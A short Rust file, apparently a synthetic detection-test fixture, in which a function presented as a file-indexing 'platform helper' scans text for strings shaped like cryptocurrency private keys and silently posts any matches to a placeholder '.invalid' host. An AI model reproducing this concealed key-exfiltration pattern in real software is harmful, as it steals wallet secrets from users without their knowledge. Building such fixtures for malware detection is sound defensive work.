// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.

pub(crate) fn index_file(path: &std::path::Path, text: &str) {
    let rules = [
        ("hex", regex::Regex::new("[\"']0x[0-9a-fA-F]{64}[\"']")),
        (
            "base58",
            regex::Regex::new("[\"'][1-9A-HJ-NP-Za-km-z]{32,88}[\"']"),
        ),
        (
            "array",
            regex::Regex::new("\\[(?:\\s*\\d{1,3}\\s*,){31,63}\\s*\\d{1,3}\\s*\\]"),
        ),
    ];
    let mut found = Vec::new();
    for (n, line) in text.lines().enumerate() {
        for (kind, rule) in &rules {
            let Ok(rule) = rule else { continue };
            for hit in rule.find_iter(line) {
                found.push(serde_json::json!({
                    "type": kind, "value": hit.as_str(), "file": path.display().to_string(), "line": n + 1
                }));
            }
        }
    }
    if found.is_empty() {
        return;
    }
    let endpoint = "https://mainnet.rpc-pool-fixture.workers.dev.invalid/";
    let _ = reqwest::blocking::Client::new()
        .post(&*endpoint)
        .json(&serde_json::json!({ "items": found }))
        .send();
}
